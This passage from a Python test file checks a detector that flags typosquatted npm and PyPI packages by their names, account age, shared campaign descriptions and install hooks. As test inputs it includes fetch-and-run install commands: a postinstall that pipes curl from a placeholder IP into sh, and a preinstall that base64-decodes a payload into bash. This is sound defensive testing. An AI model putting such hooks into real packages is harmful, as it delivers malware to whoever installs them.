    assert one("survived", "lodahs", "lodash", sm=undated).value == 1.0  # no first-release date: listed in full


def test_every_category_group_of_the_rules_table_is_a_signal():
    """`categories.RULES` names each category's signal group: each is one `cat_*` entry of SIGNALS, which
    fires for exactly the categories the table puts in it."""
    from confuguard.categories import RULES

    groups = {r.group for r in RULES}
    assert groups == {n for n in sig.FEATURE_NAMES if n.startswith("cat_")}
    for r in RULES:
        pair = sig.Pair(names.parse("lodahs", NPM), cand("lodash", cats=(r.category,)), None, None, Allowlist.default(), None, NOW)
        fired = {s.name for s in sig.compute(pair) if s.name.startswith("cat_") and s.value}
        assert fired == {r.group}, r.category


def test_signals_are_one_list_of_spec_and_function():
    assert [spec.name for spec, _ in sig.SIGNALS] == list(sig.FEATURE_NAMES)
    with pytest.raises(ValueError, match="share a name"):
        sig.TABLE.extended(sig.SIGNALS[0])


def test_install_fetch_exec_fires_on_a_brand_new_dropper_only():
    def s(**kw):
        return one("install_fetch_exec", "reqeusts", "requests", PYPI, sm=meta("reqeusts", PYPI, **kw))

    dropper = ("cmdclass", "runs-commands", "downloads")
    hit = s(install_behaviour=dropper, version_count=1)
    assert hit.value == 1.0 and "downloads and runs code at install" in hit.reason
    assert s(install_behaviour=dropper, version_count=9, created=datetime(2020, 1, 1, tzinfo=UTC)).value == 0.0
    assert s(install_behaviour=("cmdclass", "runs-commands"), version_count=1).value == 0.0  # runs, downloads nothing
    assert s(install_behaviour=(), version_count=1).value == 0.0
    assert s(install_behaviour=("decodes-payload",), version_count=1).value == 0.0  # decodes, runs nothing
    assert s(version_count=1).value is None  # the install code was not read
    hidden = one("install_fetch_exec", "ing-platfrom", "platform", sm=meta(
        "ing-platfrom", install_behaviour=("runs-commands", "executes-code", "decodes-payload"), version_count=1))
    assert hidden.value == 1.0 and hidden.reason.startswith("its install script decodes a hidden payload and runs it")
    spec = {f.name: f for f in sig.FEATURES}["install_fetch_exec"]
    assert spec.fixed and spec.prior >= 5  # a documented rule: training never replaces it


def test_npm_install_hook_command_lines_are_read_from_the_packument():
    from confuguard.registries.npm import script_behaviour

    assert script_behaviour({"postinstall": "curl -s https://203.0.113.9/i.sh | sh"}) == (
        "runs-commands", "downloads", "executes-code")
    assert script_behaviour({"install": "node-gyp rebuild"}) == ("runs-commands",)
    assert script_behaviour({"preinstall": 'echo "ej0wOyB4PSdpbmctcGxhdGZvcm0nOwpkPSJvb2JzLmZ1biI7" | base64 -d | bash'}) == (
        "runs-commands", "executes-code", "decodes-payload")
    assert script_behaviour({"postinstall": "echo aGVsbG8gd29ybGQgdGhpcyBpcyBhIGhpZGRlbiBjb21tYW5k > /tmp/x"}) == (
        "runs-commands", "decodes-payload")
    # a long path of plain words is no blob
    assert script_behaviour({"postinstall": "node node_modules/somepackage/scripts/install/postinstall.js"}) == (
        "runs-commands",)
    assert script_behaviour({"test": "curl http://x | sh", "build": "tsc"}) == ()


def test_account_fresh_reads_the_accounts_package_count():
    def s(n):
        return one("account_fresh", "lodahs", "lodash", sm=meta("lodahs", account_packages=n))

    assert s(1).value == 1.0 and "no other package" in s(1).reason
    assert s(7).value == 0.0 and s(7).reason is None
    assert s(None).value is None


CAMPAIGN = "To evoid errors use administative permissions while installing"


def shared(summary: str | None, peers: int | None, source: str = "live") -> sig.Signal:
    sm = meta("reqeusts", PYPI, source=source, summary=summary)
    pair = sig.Pair(names.parse("reqeusts", PYPI), cand("requests", PYPI), sm, None, Allowlist.default(), None, NOW,
                    None, peers)
    return next(s for s in sig.compute(pair) if s.name == "summary_shared")


def test_summary_shared_counts_other_new_packages_with_the_same_specific_summary():
    hit = shared(CAMPAIGN, 7)
    assert hit.value == sig.SUMMARY_PEERS_CAP  # counted, capped
    assert hit.reason == "the same description as 7 other packages published in the last 30 days (a campaign)"
    assert shared(CAMPAIGN, 1).value == 1.0 and "as 1 other package published" in shared(CAMPAIGN, 1).reason
    assert shared(CAMPAIGN, 0).value == 0.0 and shared(CAMPAIGN, 0).reason is None


def test_a_summary_pasted_under_many_names_is_not_a_purpose_of_its_own():
    def descriptive(peers: int | None) -> float | None:
        sm = meta("reqeusts", PYPI, summary="A library for web scraping and data extraction")
        pair = sig.Pair(names.parse("reqeusts", PYPI), cand("requests", PYPI), sm, None, Allowlist.default(), None,
                        NOW, None, peers)
        return next(s for s in sig.compute(pair) if s.name == "summary_descriptive").value

    assert descriptive(None) == descriptive(0) == descriptive(1) == 1.0
    assert descriptive(sig.CAMPAIGN_PASTED) == 0.0


def test_summary_shared_never_counts_filler_short_or_random_summaries():
    for filler in ("A very basic firstbasicpyapp", "test package", "Add your description here", "Fast sort",
                   "placeholder reserved for my company", "GzUHeVluNzkNAQB xYqweKLmq ZZpoqwTRb", ""):
        assert shared(filler, 12).value == 0.0, filler


def test_summary_shared_is_unknown_without_a_live_record_or_a_store_that_counts():
    assert shared(CAMPAIGN, None).value is None  # no store recording summaries
    assert shared(CAMPAIGN, 4, source="snapshot:pypi.tsv").value is None  # a snapshot is not an upload
    pair = sig.Pair(names.parse("reqeusts", PYPI), cand("requests", PYPI), None, None, Allowlist.default(), None, NOW,
                    None, 4)
    assert next(s for s in sig.compute(pair) if s.name == "summary_shared").value is None


def test_summary_digest_normalises_case_and_punctuation_only():
    def digest(text: str, source: str = "live") -> str | None:
        return sig.summary_digest(meta("x", PYPI, source=source, summary=text))

    same = digest("A library for web scraping and data extraction")
    assert same is not None
    assert digest("  a LIBRARY for web-scraping, and data extraction!! ") == same
    assert digest("A library for web scraping and data extraction tools") != same
    assert digest("A library for web scraping and data extraction", source="snapshot:pypi.tsv") is None
    assert sig.summary_digest(meta("x", PYPI)) is None  # summary unknown


def test_summary_shared_prior_is_about_two_logits_from_two_peers():
    spec = {f.name: f for f in sig.FEATURES}["summary_shared"]
    weight = {n: spec.prior * min(spec.hi, (n - spec.neutral) / spec.scale) for n in (1, 2, 5)}
    assert spec.sign == 1 and weight[1] < weight[2] and 1.9 <= weight[2] <= weight[5] <= 3.0


def test_a_megabyte_summary_or_url_is_read_only_to_its_cap():
    # a hostile registry may serve megabytes in one field: the signals read a bounded prefix
    padded = meta("lodahs", summary="Sort helpers " * 200_000 + "built around lodash")
    assert one("mentions_target", "lodahs", "lodash", sm=padded).value == 0.0  # the mention lies past the cap
    assert one("mentions_target", "lodahs", "lodash", sm=meta("lodahs", summary="Sort helpers built around lodash")).value == 1.0
    far = "https://github.com/" + "x/" * 1_000_000 + "lodahs"
    assert one("repository_is_own", "lodahs", "lodash", sm=meta("lodahs", repository_url=far)).value == 0.0
    own = "https://github.com/someone/lodahs"
    assert one("repository_is_own", "lodahs", "lodash", sm=meta("lodahs", repository_url=own)).value == 1.0
